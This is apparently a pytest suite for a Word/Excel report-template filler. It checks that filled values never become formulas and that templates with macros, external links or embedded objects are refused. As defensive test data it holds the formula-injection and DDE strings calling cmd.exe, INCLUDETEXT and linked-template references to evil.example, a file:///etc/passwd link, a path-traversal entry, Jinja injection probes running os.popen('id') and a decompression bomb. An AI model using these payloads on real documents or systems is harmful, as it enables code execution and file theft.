"""Templates: found fields, filled fields, and everything that a template must not hold."""

from __future__ import annotations

import io
from datetime import datetime
from typing import Any

import docx
import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.datavalidation import DataValidation

from tests.reports.templates import WORDS, document, repacked, replaced, workbook
from zhitong.reports.filling import asking
from zhitong.reports.filling.limits import FillLimits
from zhitong.reports.filling.reasons import SENTENCES, Reason, TemplateRefused

SINGLE = {"made_on": {"day": "2026-06-05"}, "count": 3}
KEYS = ["number", "title", "due"]
ATTACK = "=cmd|' /C calc'!A0"
ROWS = [
    ["A-1", "道路破损\n需要修复", {"day": "2026-06-08"}],
    ["A-2", ATTACK, None],
    ["A-3", "<w:p>&\x01", {"day": "2026-07-01"}],
]
BODY, RELS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def fill(content: bytes, rows: list[Any] = ROWS, **more: Any) -> bytes:
    return asking.fill(content, WORDS, asking.Values({**SINGLE, "count": len(rows)}, KEYS, rows), **more)


def sheet_of(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content)).active


def test_fields_are_found_with_their_places() -> None:
    looked = asking.look(workbook(), WORDS)
    assert looked.format == "xlsx"
    assert [(place.key, place.listed, place.place) for place in looked.fields] == [
        ("made_on", False, "Sheet!A1"), ("number", True, "Sheet!A3"), ("title", True, "Sheet!B3"),
        ("due", True, "Sheet!C3"), ("count", False, "Sheet!A5"),
    ]  # fmt: skip
    looked = asking.look(document(), WORDS)
    assert looked.format == "docx"
    assert [place.key for place in looked.fields if place.listed] == KEYS
    assert [place.key for place in looked.fields if not place.listed].count("made_on") == 2


def test_a_workbook_keeps_what_people_made() -> None:
    def change(sheet: Any) -> None:
        choice = DataValidation(type="list", formula1='"是,否"')
        choice.add("B3:B4")
        sheet.add_data_validation(choice)

    sheet = sheet_of(fill(workbook(change)))
    assert sheet["A1"].value == "台账（2026年6月5日）"
    assert [[cell.value for cell in row] for row in sheet["A3:C5"]] == [
        ["A-1", "道路破损\n需要修复", datetime(2026, 6, 8)],
        ["A-2", ATTACK, "—"],
        ["A-3", "<w:p>&", datetime(2026, 7, 1)],
    ]
    assert sheet["A7"].value == "合计 3 件"
    assert {area.coord for area in sheet.merged_cells.ranges} == {"A1:C1", "A7:C7"}
    assert [sheet.row_dimensions[row].height for row in (3, 4, 5, 7)] == [40, 40, 40, 33]
    assert sheet["A5"].font.bold
    assert not sheet["B5"].font.bold
    assert sheet.print_area == "'Sheet'!$A$1:$C$7"
    assert sheet.print_title_rows == "$1:$2"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet["C3"].number_format == "yyyy-mm-dd"
    assert sheet.data_validations.dataValidation[0].sqref.ranges.pop().coord == "B3:B6"


def test_a_value_is_never_a_formula() -> None:
    sheet = sheet_of(fill(workbook()))
    assert sheet["B4"].data_type == "s"
    assert sheet["B4"].quotePrefix
    raw = repacked(fill(workbook()), lambda _parts: None)
    assert b"<f>" not in raw
    values = [[start + "1+1", f"{start}SUM(A1)", None] for start in ("=", "+", "-", "@", "\t", "＝")]
    sheet = sheet_of(fill(workbook(), values))
    for number in range(3, 3 + len(values)):
        assert sheet.cell(number, 1).data_type == sheet.cell(number, 2).data_type == "s"


def test_numbers_and_days_are_such_and_a_missing_one_is_no_nought() -> None:
    sheet = sheet_of(fill(workbook(), [[7, 0.5, None]]))
    assert (sheet["A3"].value, sheet["A3"].data_type) == (7, "n")
    assert sheet["B3"].value == 0.5
    assert sheet["C3"].value == "—"


def test_a_list_without_cases_leaves_one_line_of_dashes() -> None:
    sheet = sheet_of(fill(workbook(), []))
    assert [cell.value for cell in sheet[3]] == ["—", "—", "—"]
    assert sheet["A5"].value == "合计 0 件"
    table = docx.Document(io.BytesIO(fill(document(), []))).tables[0]
    assert [cell.text for cell in table.rows[1].cells] == ["—", "—", "—"]


def test_a_document_is_filled_across_runs_and_repeats_its_line() -> None:
    made = docx.Document(io.BytesIO(fill(document())))
    assert made.paragraphs[0].text == "截至 2026年6月5日，共 3 件。"
    assert made.sections[0].header.paragraphs[0].text == "2026-06-05"
    rows = [[cell.text for cell in row.cells] for row in made.tables[0].rows]
    assert rows == [
        ["编号", "标题", "办理期限"],
        ["A-1", "道路破损\n需要修复", "2026-06-08"],
        ["A-2", ATTACK, "—"],
        ["A-3", "<w:p>&", "2026-07-01"],
    ]


def test_a_paragraph_outside_tables_repeats_as_well() -> None:
    content = document(lambda made: made.add_paragraph("{{编号}}：{{ 标题 }}；"))
    texts = [paragraph.text for paragraph in docx.Document(io.BytesIO(fill(content))).paragraphs]
    assert [text for text in texts if "；" in text] == [
        "A-1：道路破损\n需要修复；", f"A-2：{ATTACK}；", "A-3：<w:p>&；"
    ]  # fmt: skip


PYTHON = [
    "''.__class__", "number.__init__.__globals__", "7*7", "config", "cycler.__init__.__globals__.os.popen('id')",
    "编号.upper()", "编号|attr('__class__')", "编号|e|年月日", "self", "'x'|format", "range(9)",
]  # fmt: skip


@pytest.mark.parametrize("text", PYTHON)
@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_what_is_no_field_stays_as_it_is_written(text: str, kind: str) -> None:
    written = f"{{{{ {text} }}}}"
    if kind == "docx":
        content = document(lambda made: made.add_paragraph(written))
        looked = asking.look(content, WORDS)
        assert written in [one.text for one in docx.Document(io.BytesIO(fill(content))).paragraphs]
    else:
        content = workbook(lambda sheet: sheet.__setitem__("A7", written))
        looked = asking.look(content, WORDS)
        assert sheet_of(fill(content))["A9"].value == written
    assert [place.key for place in looked.fields if place.name == text] == [""]


def _rel(kind: str, target: str, *, external: bool = True) -> Any:
    mode = ' TargetMode="External"' if external else ""
    row = f'<Relationship Id="rId99" Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>'
    return replaced(RELS, "</Relationships>", row)


def _field(*parts: str) -> Any:
    marks = ["begin", *parts, "end"]
    runs = "".join(
        f'<w:r><w:fldChar w:fldCharType="{part}"/></w:r>'
        if part in {"begin", "end", "separate"}
        else f"<w:r><w:instrText>{part}</w:instrText></w:r>"
        for part in marks
    )
    return replaced(BODY, "<w:sectPr", f"<w:p>{runs}</w:p><w:sectPr")


def _part(name: str, content: bytes = b"x") -> Any:
    return lambda parts: parts.update({name: content})


BOMB = b"<a>" + b" " * 5_000_000 + b"</a>"
DEEP = "<w:p>" * 400 + "</w:p>" * 400
WORD: dict[str, tuple[Reason, Any]] = {
    "statement": (Reason.STATEMENTS, lambda made: made.add_paragraph("{% for a in range(10**9) %}x{% endfor %}")),
    "full-width statement": (Reason.STATEMENTS, lambda made: made.add_paragraph("｛％ if 1 ％｝")),
    "comment": (Reason.STATEMENTS, lambda made: made.add_paragraph("{# x #}")),
    "open field": (Reason.OPEN, lambda made: made.add_paragraph("{{ 编号")),
    "closing only": (Reason.OPEN, lambda made: made.add_paragraph("编号 }}")),
}  # fmt: skip
WORD_PARTS: dict[str, tuple[Reason, Any]] = {
    "macros": (Reason.MACROS, _part("word/vbaProject.bin")),
    "macros elsewhere": (Reason.MACROS, _part("word/vbaData.xml", b"<a/>")),
    "renamed docm": (
        Reason.MACROS,
        replaced(
            TYPES,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    ),
    "attached template": (Reason.EXTERNAL, _rel("attachedTemplate", "http://evil.example/a.dotm")),
    "linked picture": (Reason.EXTERNAL, _rel("image", "\\\\evil.example\\a.png")),
    "file link": (Reason.EXTERNAL, _rel("hyperlink", "file:///etc/passwd")),
    "not said to be outside": (Reason.EXTERNAL, _rel("image", "http://evil.example/a", external=False)),
    "alternative part": (Reason.EMBEDDED, _rel("aFChunk", "a.html", external=False)),
    "alternative element": (Reason.EMBEDDED, replaced(BODY, "<w:sectPr", "<w:altChunk/><w:sectPr")),
    "object": (Reason.EMBEDDED, _part("word/embeddings/oleObject1.bin")),
    "object element": (Reason.EMBEDDED, replaced(BODY, "<w:sectPr", "<w:p><w:r><w:object/></w:r></w:p><w:sectPr")),
    "control": (Reason.EMBEDDED, _part("word/activeX/activeX1.xml", b"<a/>")),
    "dde": (Reason.COMMANDS, _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', "separate")),
    "dde in pieces": (Reason.COMMANDS, _field("D", "DE", "AUTO cmd")),
    "dde in quotes": (Reason.COMMANDS, _field("QUOTE 68 68 69", "separate")),
    "include": (Reason.COMMANDS, _field(' INCLUDETEXT "http://evil.example/a.docx" ')),
    "simple field": (
        Reason.COMMANDS,
        replaced(BODY, "<w:sectPr", '<w:p><w:fldSimple w:instr=" LINK Excel.Sheet x "/></w:p><w:sectPr'),
    ),
    "bomb": (Reason.BOMB, _part("word/big.xml", BOMB)),
    "entities": (Reason.DAMAGED, replaced(BODY, "<w:document", '<!DOCTYPE a [<!ENTITY b "c">]><w:document')),
    "other encoding": (Reason.DAMAGED, _part("word/a.xml", "<!DOCTYPE a>".encode("utf-16"))),
    "deep": (Reason.DAMAGED, replaced(BODY, "<w:sectPr", f"{DEEP}<w:sectPr")),
    "broken": (Reason.DAMAGED, replaced(BODY, "<w:sectPr", "<w:")),
    "way out": (Reason.DAMAGED, _part("../../etc/passwd")),
}  # fmt: skip


@pytest.mark.parametrize("name", WORD)
def test_a_document_with_a_command_is_refused(name: str) -> None:
    reason, change = WORD[name]
    refused(document(change), reason)


@pytest.mark.parametrize("name", WORD_PARTS)
def test_a_document_with_hidden_things_is_refused(name: str) -> None:
    reason, change = WORD_PARTS[name]
    refused(repacked(document(), change), reason)


def _formula(sheet: Any) -> None:
    sheet["B7"] = "=SUM(A1:A2)"


def _two_lines(sheet: Any) -> None:
    sheet["A4"] = "{{ 标题 }}"


def _name(sheet: Any) -> None:
    from openpyxl.workbook.defined_name import DefinedName

    sheet.parent.defined_names["x"] = DefinedName("x", attr_text="cmd|'/C calc'!A0")


EXCEL: dict[str, tuple[Reason, Any]] = {
    "formula": (Reason.FORMULAS, _formula),
    "two lines": (Reason.TWO_LISTS, _two_lines),
    "merged down": (Reason.MERGED, lambda sheet: sheet.merge_cells("B3:B4")),
    "name that reaches out": (Reason.EXTERNAL, _name),
    "far away": (Reason.TOO_WIDE, lambda sheet: sheet.__setitem__("A1048576", "x")),
    "statement": (Reason.STATEMENTS, lambda sheet: sheet.__setitem__("A7", "{%tr for x in y %}")),
}  # fmt: skip
EXCEL_PARTS: dict[str, tuple[Reason, Any]] = {
    "macros": (Reason.MACROS, _part("xl/vbaProject.bin")),
    "old macros": (Reason.MACROS, _part("xl/macrosheets/sheet1.xml", b"<a/>")),
    "links": (Reason.EMBEDDED, _part("xl/externalLinks/externalLink1.xml", b"<a/>")),
    "connections": (Reason.EMBEDDED, _part("xl/connections.xml", b"<a/>")),
    "object": (Reason.EMBEDDED, _part("xl/embeddings/a.docx")),
    "picture": (Reason.PICTURES, _part("xl/media/image1.png")),
    "chart": (Reason.PICTURES, _part("xl/charts/chart1.xml", b"<a/>")),
    "bomb": (Reason.BOMB, _part("xl/big.xml", BOMB)),
}  # fmt: skip


@pytest.mark.parametrize("name", EXCEL)
def test_a_workbook_that_cannot_be_filled_is_refused(name: str) -> None:
    reason, change = EXCEL[name]
    refused(workbook(change), reason)


@pytest.mark.parametrize("name", EXCEL_PARTS)
def test_a_workbook_with_hidden_things_is_refused(name: str) -> None:
    reason, change = EXCEL_PARTS[name]
    refused(repacked(workbook(), change), reason)


def refused(content: bytes, reason: Reason) -> None:
    with pytest.raises(TemplateRefused) as error:
        asking.look(content, WORDS)
    assert error.value.code == reason
    assert SENTENCES[reason] % error.value.params
    with pytest.raises(TemplateRefused):
        fill(content)


OTHERS = {
    "nothing": (b"", Reason.EMPTY),
    "old": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, Reason.OLD),
    "text": (b"{{ \xe7\xbc\x96\xe5\x8f\xb7 }}", Reason.UNKNOWN_TYPE),
    "half a package": (b"PK\x03\x04" + b"\0" * 40, Reason.DAMAGED),
    "large": (b"PK\x03\x04" + b"\0" * (3 * 1024 * 1024), Reason.TOO_LARGE),
}


@pytest.mark.parametrize("name", OTHERS)
def test_other_files_are_refused(name: str) -> None:
    content, reason = OTHERS[name]
    refused(content, reason)


def test_a_template_without_fields_is_refused() -> None:
    refused(
        repacked(
            document(),
            lambda parts: parts.update(
                {BODY: _without(parts[BODY]), "word/header1.xml": _without(parts["word/header1.xml"])}
            ),
        ),
        Reason.NO_FIELDS,
    )


def _without(part: bytes) -> bytes:
    return part.translate(None, b"{}").replace("｛".encode(), b"").replace("｝".encode(), b"")


def test_a_list_within_a_list_is_refused() -> None:
    def change(made: Any) -> None:
        made.tables[0].cell(1, 0).add_table(1, 1).cell(0, 0).text = "{{ 编号 }}"

    refused(document(change), Reason.TWO_LISTS)


def test_too_many_cases_and_too_little_time_are_refused() -> None:
    with pytest.raises(TemplateRefused) as error:
        fill(workbook(), ROWS * 4, limits=FillLimits(cases=10))
    assert error.value.code == Reason.TOO_MANY_CASES
    with pytest.raises(TemplateRefused) as error:
        fill(workbook(), ROWS, limits=FillLimits(wall_seconds=0.01))
    assert error.value.code == Reason.UNREADABLE


def test_plain_things_of_word_are_allowed() -> None:
    content = repacked(document(), _field(" PAGE ", "separate"))
    content = repacked(content, _rel("hyperlink", "https://example.org/"))
    assert asking.look(content, WORDS).format == "docx"


def test_every_reason_has_a_sentence() -> None:
    assert set(SENTENCES) == set(Reason)
